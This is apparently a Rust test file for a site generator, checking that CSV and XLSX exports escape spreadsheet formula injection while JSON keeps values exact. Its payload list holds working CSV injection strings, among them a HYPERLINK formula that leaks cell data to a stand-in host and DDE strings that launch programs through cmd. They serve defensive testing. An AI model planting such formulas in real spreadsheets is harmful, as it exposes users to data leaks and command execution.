//! Formula injection (OWASP "CSV Injection"): record text that a spreadsheet would run as a
//! formula reaches the CSV and XLSX datasets with a leading `'`, numbers stay numbers, and the
//! JSON and NDJSON datasets keep every value exactly.

mod common;
use common::*;
use serde_json::{json, Value as Json};
use std::collections::BTreeMap;
use std::path::Path;

const SITE: &str = r#"site:
  title: 注入测试
  bureau: 测试市场监督管理局
  base_url: https://test.example.org/
collections:
  notes:
    title: 记录
    title_field: name
    fields:
      name: { type: text, label: 名称, required: true }
      tags: { type: text, list: true, label: 标签 }
      kind: { type: enum, label: 类别, values: ["-", "=1+1", 普通] }
      count: { type: integer, label: 数量 }
      fine: { type: money, label: 金额 }
      summary: { type: markdown, label: 说明 }
      items:
        type: object
        list: true
        label: 明细
        fields:
          text: { type: text, label: 内容 }
"#;

/// Payloads from OWASP's page and the issue, and the short texts real data holds ("-", "+86…").
/// The loader trims text, so a leading tab or carriage return arrives without it.
const PAYLOADS: [&str; 10] = [
    r#"=HYPERLINK("http://evil.example/?leak="&A1,"点击")"#,
    "+86-29-8888-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "-",
    "+",
    "=",
    "\t=1+1",
    "\r\n@x",
];

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn hostile_site(root: &Path) {
    std::fs::create_dir_all(root.join("data/notes")).expect("data folder");
    std::fs::write(root.join("site.yaml"), SITE).expect("site.yaml");
    let records: Vec<Json> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(i, p)| {
            json!({
                "id": format!("n-{i}"),
                "published": "2024-01-10",
                "name": p,
                "tags": [p, "普通"],
                "kind": if i.is_multiple_of(2) { "-" } else { "=1+1" },
                "count": -5 - i as i64,
                "fine": "12.5",
                "summary": p,
                "items": [{"text": p}],
            })
        })
        .collect();
    let yaml = serde_yaml::to_string(&records).expect("yaml");
    std::fs::write(root.join("data/notes/notes.yaml"), yaml).expect("records");
}

fn quoted(payload: &str) -> String {
    format!("'{}", payload.trim())
}

/// The built site's `data/notes.*` files.
fn built() -> (tempfile::TempDir, std::path::PathBuf) {
    let tmp = tempfile::tempdir().expect("tempdir");
    let root = tmp.path().join("site");
    hostile_site(&root);
    let out = tmp.path().join("public");
    build(&root, &out, "2024-04-15").expect("the site builds");
    (tmp, out)
}

#[test]
fn csv_cells_that_would_start_a_formula_get_a_quote_and_numbers_stay_numbers() {
    let (_tmp, out) = built();
    let text = read(&out, "data/notes.csv");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows: Vec<BTreeMap<String, String>> = reader
        .records()
        .map(|r| {
            headers
                .iter()
                .cloned()
                .zip(r.expect("row").iter().map(str::to_string))
                .collect()
        })
        .collect();
    assert_eq!(rows.len(), PAYLOADS.len());
    let mut neutralised = 0;
    for row in &rows {
        let i: usize = row["id"]["n-".len()..].parse().expect("id");
        let payload = PAYLOADS[i];
        assert_eq!(row["name"], quoted(payload), "name of n-{i}");
        assert_eq!(row["summary"], quoted(payload), "summary of n-{i}");
        assert_eq!(row["tags"], format!("{}; 普通", quoted(payload)));
        let kind = if i.is_multiple_of(2) { "'-" } else { "'=1+1" };
        assert_eq!(row["kind"], kind);
        assert_eq!(
            row["count"],
            (-5 - i as i64).to_string(),
            "a negative integer"
        );
        assert_eq!(row["fine"], "12.5");
        let items: Json = serde_json::from_str(&row["items"]).expect("items are JSON");
        assert_eq!(
            items,
            json!([{"text": payload.trim()}]),
            "JSON text is exact"
        );
        for (column, cell) in row {
            if column == "count" {
                continue;
            }
            if cell.starts_with('\'') {
                neutralised += 1;
            }
            assert!(
                !cell.starts_with(TRIGGERS),
                "n-{i} {column}: {cell:?} would start a formula"
            );
        }
    }
    assert_eq!(neutralised, PAYLOADS.len() * 4);
}

#[test]
fn json_and_ndjson_keep_the_values_exactly() {
    let (_tmp, out) = built();
    let array: Vec<Json> =
        serde_json::from_str(&read(&out, "data/notes.json")).expect("json dataset");
    let lines: Vec<Json> = read(&out, "data/notes.ndjson")
        .lines()
        .map(|l| serde_json::from_str(l).expect("ndjson line"))
        .collect();
    assert_eq!(array, lines);
    for row in &array {
        let i: usize = row["id"].as_str().expect("id")["n-".len()..]
            .parse()
            .expect("id");
        let payload = PAYLOADS[i].trim();
        assert_eq!(row["name"], json!(payload));
        assert_eq!(row["tags"], json!([payload, "普通"]));
        assert_eq!(row["summary"], json!(payload));
        assert_eq!(row["count"], json!(-5 - i as i64));
        let kind = if i.is_multiple_of(2) { "-" } else { "=1+1" };
        assert_eq!(row["kind"], json!(kind));
    }
}

/// One worksheet cell as written: its `t` type attribute, its text or value, and whether it
/// holds a formula.
#[derive(Debug)]
struct XlsxCell {
    kind: Option<String>,
    text: String,
    formula: bool,
}

fn unescape_xml(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&#9;", "\t")
        .replace("&#10;", "\n")
        .replace("&#13;", "\r")
        .replace("&amp;", "&")
}

fn texts(xml: &str) -> String {
    xml.split("<t")
        .skip(1)
        .filter_map(|t| t.split_once('>').map(|(_, rest)| rest))
        .map(|rest| unescape_xml(rest.split("</t>").next().unwrap_or_default()))
        .collect()
}

fn xlsx_cells(bytes: &[u8]) -> BTreeMap<String, XlsxCell> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("xlsx is a zip");
    let mut member = |name: &str| {
        let mut text = String::new();
        if let Ok(mut file) = zip.by_name(name) {
            std::io::Read::read_to_string(&mut file, &mut text).expect("read member");
        }
        text
    };
    let sheet = member("xl/worksheets/sheet1.xml");
    let shared: Vec<String> = member("xl/sharedStrings.xml")
        .split("<si>")
        .skip(1)
        .map(texts)
        .collect();
    sheet
        .split("<c r=\"")
        .skip(1)
        .map(|c| {
            let c = c.split("</c>").next().unwrap_or(c);
            let (reference, rest) = c.split_once('"').expect("cell reference");
            let head = rest.split('>').next().unwrap_or_default();
            let kind = head
                .split(" t=\"")
                .nth(1)
                .map(|t| t.split('"').next().unwrap_or_default().to_string());
            let value = c
                .split("<v>")
                .nth(1)
                .map(|v| unescape_xml(v.split("</v>").next().unwrap_or_default()));
            let text = match (kind.as_deref(), value) {
                (Some("s"), Some(v)) => shared[v.parse::<usize>().expect("index")].clone(),
                (_, Some(v)) => v,
                (_, None) => texts(c),
            };
            let cell = XlsxCell {
                kind,
                text,
                formula: c.contains("<f>") || c.contains("<f "),
            };
            (reference.to_string(), cell)
        })
        .collect()
}

#[test]
fn xlsx_text_cells_are_text_with_the_quote_and_numbers_are_numbers() {
    let (_tmp, out) = built();
    let bytes = std::fs::read(out.join("data/notes.xlsx")).expect("xlsx");
    let cells = xlsx_cells(&bytes);
    let column = |label: &str| -> String {
        let (reference, _) = cells
            .iter()
            .find(|(r, c)| r.ends_with('1') && r.len() == 2 && c.text == label)
            .unwrap_or_else(|| panic!("header {label}"));
        reference[..1].to_string()
    };
    // The record id is always the first column; its title comes from the theme.
    let id = "A".to_string();
    let (name, count, kind) = (column("名称"), column("数量"), column("类别"));
    let rows = PAYLOADS.len() + 1;
    let mut neutralised = 0;
    for r in 2..=rows {
        let at = |col: &str| &cells[&format!("{col}{r}")];
        let i: usize = at(&id).text["n-".len()..].parse().expect("id");
        assert_eq!(at(&name).text, quoted(PAYLOADS[i]), "row {r}");
        let number = at(&count);
        assert!(
            number.kind.as_deref().is_none_or(|k| k == "n"),
            "row {r}: count is a number cell: {number:?}"
        );
        assert_eq!(number.text.parse::<f64>().ok(), Some(-5.0 - i as f64));
        assert!(at(&kind).text.starts_with('\''), "row {r}: {:?}", at(&kind));
    }
    for (reference, cell) in &cells {
        assert!(!cell.formula, "{reference} holds a formula: {cell:?}");
        let is_text = matches!(cell.kind.as_deref(), Some("s" | "inlineStr" | "str"));
        if is_text {
            assert!(
                !cell.text.starts_with(TRIGGERS),
                "{reference}: {:?} would start a formula",
                cell.text
            );
            neutralised += usize::from(cell.text.starts_with('\''));
        }
    }
    assert_eq!(neutralised, PAYLOADS.len() * 4);
}
